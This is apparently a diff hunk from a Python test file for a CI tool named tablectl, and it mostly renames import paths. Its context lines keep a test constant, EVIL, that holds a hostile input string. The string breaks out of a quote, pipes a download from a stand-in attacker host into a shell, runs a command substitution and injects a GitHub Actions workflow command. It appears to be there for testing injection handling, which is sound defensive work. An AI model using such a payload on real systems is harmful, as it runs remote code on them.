@@ -18,10 +18,10 @@ import tablectl
 from tablectl.ci.__main__ import main
 from tablectl.one_table import DEBUG
 from tablectl.planning.plan_file import digest_of, dump_plan
-from tablectl.policies.config import load_config
+from tablectl.policies.config_file import load_config
 from tests.ci.conftest import FakeGitHub, Runner, base_commit, git, zipped
-from tests.cli.conftest import FakeSpark, Repository
-from tests.cli.log_lake import Logged, set_property
+from tests.commands.conftest import FakeSpark, Repository
+from tests.commands.log_lake import Logged, set_property
 
 COMMIT, HEAD = "c" * 40, "a" * 40
 EVIL = 'x"; curl evil.example | sh #`$(id)`\n::add-mask::*'
